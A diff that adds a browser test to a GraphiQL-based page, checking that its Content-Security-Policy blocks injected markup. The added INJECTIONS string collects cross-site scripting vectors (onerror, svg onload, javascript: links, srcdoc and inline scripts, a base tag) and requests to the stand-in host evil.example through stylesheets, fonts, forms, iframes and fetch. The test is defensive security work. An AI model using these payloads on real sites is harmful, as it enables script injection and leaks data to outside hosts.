@@ -78,6 +78,49 @@ test('a reload goes on with the tab that was open, edited or not, and adds none'
   assert.deepEqual(browser.complaints, []);
 });
 
+test('what is injected into the page neither runs nor calls out', { skip }, async () => {
+  await using inventory = await serveInventory();
+  await using browser = await openBrowser(path, inventory.url);
+  const { page } = browser;
+  await page.goto(inventory.url);
+  await page.getByRole('tab').first().waitFor();
+  const ran = await page.evaluate(INJECTIONS);
+  assert.deepEqual(ran, []);
+  assert.deepEqual(browser.foreignRequests, []);
+  assert.equal(page.url(), new URL(inventory.url).href);
+  const refused = (directive: string) => browser.complaints.some((text) => text.includes(directive));
+  for (const directive of ['script-src', 'img-src', 'font-src', 'connect-src', 'form-action', 'base-uri'])
+    assert.ok(refused(directive), `${directive} in ${browser.complaints.join('\n')}`);
+});
+
+/** Each way by which injected markup runs or reaches another host; the value is what ran. */
+const INJECTIONS = `(async () => {
+  window.ran = [];
+  const host = document.createElement('div');
+  document.body.append(host);
+  const foreign = 'https://evil.example/';
+  host.innerHTML =
+    '<img src="nothing" onerror="ran.push(1)"><svg onload="ran.push(2)"></svg>' +
+    '<a href="javascript:ran.push(3)"></a><iframe srcdoc="<script>parent.ran.push(4)</script>"></iframe>' +
+    '<style>@import "' + foreign + 'a.css"; @font-face { font-family: e; src: url(' + foreign + 'f) }' +
+    ' div { background: url(' + foreign + 'b.png); font-family: e }</style><b>text</b>' +
+    '<link rel="stylesheet" href="' + foreign + 'c.css"><object data="' + foreign + 'd"></object>' +
+    '<form action="' + foreign + '"></form><iframe src="' + foreign + '"></iframe>';
+  const script = document.createElement('script');
+  script.textContent = 'ran.push(5)';
+  const remote = document.createElement('script');
+  remote.src = foreign + 'e.js';
+  const base = document.createElement('base');
+  base.href = foreign;
+  document.head.append(script, remote, base);
+  host.querySelector('a').click();
+  host.querySelector('form').submit();
+  await document.fonts.load('12px e').catch(() => undefined);
+  await fetch(foreign).catch(() => undefined);
+  for (let frame = 0; frame < 10; frame += 1) await new Promise(requestAnimationFrame);
+  return window.ran;
+})()`;
+
 function editorWith(page: Page, text: string): Locator {
   return page.locator('.graphiql-query-editor .view-lines').filter({ hasText: text });
 }
